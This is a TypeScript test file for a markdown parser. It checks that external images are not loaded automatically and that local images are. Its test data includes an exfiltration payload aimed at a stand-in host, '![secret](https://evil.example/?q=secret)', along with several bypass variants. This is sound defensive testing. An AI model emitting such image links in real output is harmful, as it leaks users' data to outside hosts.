import { expect, test } from "vitest";
import { markdown } from "../../../../src/ui/lib/markdown/parser.ts";

const html = (text: string) => markdown.parse(text) as string;

test.each([
  ["![Harbour](/api/v1/files/1/content)", '<img src="/api/v1/files/1/content" alt="Harbour">'],
  ["![dot](data:image/png;base64,iVBORw0KGgo=)", '<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">'],
])("%s is shown", (text, expected) => {
  expect(html(text)).toContain(expected);
});

test.each([
  "![secret](https://evil.example/?q=secret)",
  "![x](http://evil.example/x.png)",
  "![x](//evil.example/x.png)",
  "![x](</\\evil.example/x.png>)",
  "![x](</\t/evil.example/x.png>)",
  "![x][1]\n\n[1]: https://evil.example/x.png",
  '<img src="https://evil.example/x.png">',
])("%s loads nothing by itself", (text) => {
  expect(html(text)).not.toMatch(/<img/);
});

test("a picture from elsewhere says where it is from", () => {
  expect(html("![Quay](https://pictures.example/quay.png)")).toContain(
    '<a href="https://pictures.example/quay.png">Picture: Quay (pictures.example)</a>',
  );
});
